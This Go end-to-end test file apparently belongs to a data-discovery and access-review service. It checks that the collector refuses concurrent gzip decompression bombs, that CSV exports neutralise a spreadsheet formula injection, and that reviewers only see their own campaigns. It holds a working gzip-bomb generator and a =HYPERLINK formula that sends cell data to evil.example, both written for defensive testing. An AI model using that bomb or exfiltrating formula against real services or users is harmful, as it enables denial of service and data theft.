package e2e

import (
	"bytes"
	"compress/gzip"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
)

// enrollHTTP enrolls an agent over the API (no agent binary needed) and
// returns its id and token.
func (s *stack) enrollHTTP(hostname string) creds {
	s.t.Helper()
	req, err := json.Marshal(map[string]string{"enroll_secret": s.enroll, "hostname": hostname})
	require.NoError(s.t, err)
	st, body := s.do("POST", "/api/v1/agents/enroll", "", string(req))
	require.Equal(s.t, http.StatusCreated, st, body)
	var c creds
	require.NoError(s.t, json.Unmarshal([]byte(body), &c))
	return c
}

// bomb is a gzip body of about 180 MB of valid-looking pii records that
// compresses to well under 1 MB: what four agents posted at once on main,
// taking the collector from 24 MB to 4.1 GB.
func bomb(t *testing.T) []byte {
	t.Helper()
	var b bytes.Buffer
	zw, err := gzip.NewWriterLevel(&b, gzip.BestCompression)
	require.NoError(t, err)
	const line = `{"kind":"pii","source":"fs","scan_id":"bomb","observed_at":"2026-11-01T10:00:00Z","asset_id":"a%07d","location":"file:///srv/share/f.csv","type":"email","category":"contact","count":2,"distinct":1}` + "\n"
	var chunk bytes.Buffer
	for i := 0; chunk.Len() < 180<<20; i++ {
		// Every 64th record differs: valid, and still ~250x compressible.
		fmt.Fprintf(&chunk, line, i/64)
	}
	_, err = zw.Write(chunk.Bytes())
	require.NoError(t, err)
	require.NoError(t, zw.Close())
	t.Logf("bomb: %d bytes gzip, %d bytes of NDJSON (%.0fx)", b.Len(), chunk.Len(), float64(chunk.Len())/float64(b.Len()))
	return b.Bytes()
}

// peakRSS is the process's peak resident set (VmHWM) in bytes.
func peakRSS(t *testing.T, pid int) int64 {
	t.Helper()
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	require.NoError(t, err)
	for _, l := range strings.Split(string(b), "\n") {
		if rest, ok := strings.CutPrefix(l, "VmHWM:"); ok {
			kb, err := strconv.ParseInt(strings.TrimSpace(strings.TrimSuffix(strings.TrimSpace(rest), "kB")), 10, 64)
			require.NoError(t, err)
			return kb << 10
		}
	}
	t.Fatal("no VmHWM in /proc status")
	return 0
}

// postBombs has four agents post the bomb at once and returns the statuses.
func (s *stack) postBombs(tokens []string, body []byte) []int {
	s.t.Helper()
	codes := make([]int, len(tokens))
	var wg sync.WaitGroup
	for i, tok := range tokens {
		wg.Add(1)
		go func() {
			defer wg.Done()
			req, err := http.NewRequest(http.MethodPost, s.url+"/api/v1/ingest", bytes.NewReader(body))
			if err != nil {
				return
			}
			req.Header.Set("Authorization", "Bearer "+tok)
			req.Header.Set("Content-Type", "application/x-ndjson")
			req.Header.Set("Content-Encoding", "gzip")
			req.Header.Set("Idempotency-Key", fmt.Sprintf("bomb-%d-%d", i, time.Now().UnixNano()))
			resp, err := s.client.Do(req)
			if err != nil {
				codes[i] = -1 // the collector may close the connection on a refused body
				return
			}
			resp.Body.Close()
			codes[i] = resp.StatusCode
		}()
	}
	wg.Wait()
	return codes
}

// TestGzipBombsKeepTheCollectorBounded: four enrolled agents post a gzip
// bomb at once. The collector refuses them all, its peak RSS stays far
// below what decoding them would take, it stays ready, and a fifth agent's
// normal batch is still stored. Then again with the ratio check off: the
// memory budget alone bounds it.
func TestGzipBombsKeepTheCollectorBounded(t *testing.T) {
	s := newStack(t, clickhouseAddr(t))
	var tokens []string
	for i := 0; i < 4; i++ {
		tokens = append(tokens, s.enrollHTTP(fmt.Sprintf("bomber-%d", i)).Token)
	}
	good := s.enrollHTTP("good-1")
	body := bomb(t)
	const limit = 768 << 20

	normalBatch := func(key string) {
		t.Helper()
		resp, err := s.client.Get(s.url + "/readyz")
		require.NoError(t, err)
		resp.Body.Close()
		require.Equal(t, 200, resp.StatusCode, "the collector is still ready")
		st, b := s.ingestAs(good.Token, key,
			`{"kind":"pii","source":"fs","scan_id":"`+key+`","observed_at":"2026-11-01T10:00:00Z","asset_id":"`+key+`","location":"file:///srv/ok/`+key+`.csv","type":"email","category":"contact","count":3,"distinct":2}`)
		require.Equal(t, 200, st, b)
		var page findingsPage
		require.Equal(t, 200, s.get("/api/v1/findings?location_prefix=file:///srv/ok/"+key, &page))
		require.Equal(t, 1, page.Total, "the fifth agent's batch is stored")
	}

	t.Run("ratio check", func(t *testing.T) {
		pid := s.coll.cmd.Process.Pid
		before := peakRSS(t, pid)
		codes := s.postBombs(tokens, body)
		peak := peakRSS(t, pid)
		t.Logf("ratio check (max_ratio 100): statuses %v; collector VmHWM %d MiB before, %d MiB after four bombs", codes, before>>20, peak>>20)
		require.Equal(t, []int{413, 413, 413, 413}, codes)
		require.Less(t, peak, int64(limit))
		normalBatch("after-ratio")
	})

	t.Run("memory budget alone", func(t *testing.T) {
		// Ratio check off, a 64 MiB budget: the bombs decode until the
		// budget (or max_decoded_bytes) stops them.
		require.NoError(t, s.coll.cmd.Process.Signal(syscall.SIGTERM))
		<-s.coll.done
		cfg, err := os.ReadFile(s.config)
		require.NoError(t, err)
		cfg = bytes.Replace(cfg, []byte("ingest:\n"), []byte("ingest:\n  max_ratio: 0\n  memory_budget_bytes: 67108864\n"), 1)
		require.NoError(t, os.WriteFile(s.config, cfg, 0o600))
		s.startCollector()
		pid := s.coll.cmd.Process.Pid
		before := peakRSS(t, pid)
		codes := s.postBombs(tokens, body)
		peak := peakRSS(t, pid)
		t.Logf("budget only (max_ratio 0, 64 MiB budget): statuses %v; collector VmHWM %d MiB before, %d MiB after four bombs", codes, before>>20, peak>>20)
		for _, c := range codes {
			require.Contains(t, []int{413, 503}, c, "refused: over the budget (413 alone, 503 shared) or max_decoded_bytes")
		}
		require.Less(t, peak, int64(limit))
		normalBatch("after-budget")
	})
}

// TestExportsAndReviewerScope: a formula in an agent's host name (the data
// map's system for its files) and in a revoke comment comes out of both
// CSV exports neutralised, and a reviewer cannot read a campaign they have
// no item in.
func TestExportsAndReviewerScope(t *testing.T) {
	s := newStack(t, clickhouseAddr(t))
	const formula = `=HYPERLINK("http://evil.example/?d="&A1,"open")`
	a := s.enrollHTTP(formula)
	now := time.Now().UTC().Truncate(time.Second).Format(time.RFC3339)
	env := func(kind, source, scan string) string {
		return `"kind":"` + kind + `","source":"` + source + `","scan_id":"` + scan + `","observed_at":"` + now + `"`
	}
	st, b := s.ingestAs(a.Token, "k1",
		`{`+env("asset", "fs", "fs1")+`,"asset_id":"f1","asset_type":"file","location":"file:///srv/hr/people.csv","owner":"root"}`,
		`{`+env("pii", "fs", "fs1")+`,"asset_id":"f1","location":"file:///srv/hr/people.csv","type":"email","category":"contact","count":5,"distinct":3}`,
		`{`+env("scan", "fs", "fs1")+`,"scanner":"fs","started_at":"`+now+`","finished_at":"`+now+`","status":"ok"}`,
		`{`+env("principal", "host", "h1")+`,"principal_id":"u1@web-1","name":"deploy","principal_type":"user","privileged":true}`,
		`{`+env("entitlement", "host", "h1")+`,"principal_id":"u1@web-1","resource_id":"host://web-1","resource_type":"host","permission":"sudo","privileged":true}`,
		`{`+env("scan", "host", "h1")+`,"scanner":"host","started_at":"`+now+`","finished_at":"`+now+`","status":"ok"}`)
	require.Equal(t, 200, st, b)

	noLiveFormula := func(name, text string) {
		t.Helper()
		rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
		require.NoError(t, err, text)
		found := false
		for _, r := range rows {
			for _, cell := range r {
				require.False(t, strings.HasPrefix(strings.TrimLeft(cell, " "), "="), "%s: live formula cell %q", name, cell)
				found = found || cell == "'"+formula
			}
		}
		require.True(t, found, "%s: the neutralised cell is there:\n%s", name, text)
	}
	st, dm := s.do("GET", "/api/v1/datamap?format=csv", s.admin, "")
	require.Equal(t, 200, st, dm)
	noLiveFormula("data map", dm)

	rev1 := s.run("token", "create", "--role", "reviewer", "--name", "rev1", "--config", s.config)
	rev2 := s.run("token", "create", "--role", "reviewer", "--name", "rev2", "--config", s.config)
	st, b = s.do("POST", "/api/v1/reviews", s.admin, `{"name":"q4","scope":{"privileged_only":true,"source":"host"},"reviewer":"rev1"}`)
	require.Equal(t, 201, st, b)
	var created struct {
		ID    string `json:"campaign_id"`
		Items int    `json:"items"`
	}
	require.NoError(t, json.Unmarshal([]byte(b), &created))
	require.Equal(t, 1, created.Items)
	st, b = s.do("GET", "/api/v1/reviews/"+created.ID+"/items", rev1, "")
	require.Equal(t, 200, st, b)
	var items struct {
		Items []struct {
			ItemID string `json:"item_id"`
		} `json:"items"`
	}
	require.NoError(t, json.Unmarshal([]byte(b), &items))
	require.Len(t, items.Items, 1)
	comment, _ := json.Marshal(map[string]string{"decision": "revoke", "comment": formula})
	st, b = s.do("POST", "/api/v1/reviews/"+created.ID+"/items/"+items.Items[0].ItemID+"/decision", rev1, string(comment))
	require.Equal(t, 200, st, b)

	st, ev := s.do("GET", "/api/v1/reviews/"+created.ID+"/export", s.admin, "")
	require.Equal(t, 200, st, ev)
	noLiveFormula("review evidence", ev)

	// rev1 has the item: header and the revoked-but-still-present grant.
	st, b = s.do("GET", "/api/v1/reviews/"+created.ID, rev1, "")
	require.Equal(t, 200, st, b)
	require.Contains(t, b, items.Items[0].ItemID)
	// rev2 has nothing in it: as unknown as a campaign that does not exist.
	st, b = s.do("GET", "/api/v1/reviews/"+created.ID, rev2, "")
	require.Equal(t, 404, st, b)
	st, unknown := s.do("GET", "/api/v1/reviews/0123456789abcdef", rev2, "")
	require.Equal(t, 404, st)
	require.Equal(t, unknown, b, "the same answer as for an unknown campaign")
	st, b = s.do("GET", "/api/v1/reviews/"+created.ID+"/items", rev2, "")
	require.Equal(t, 200, st, b)
	require.JSONEq(t, `{"items":[]}`, b)
}
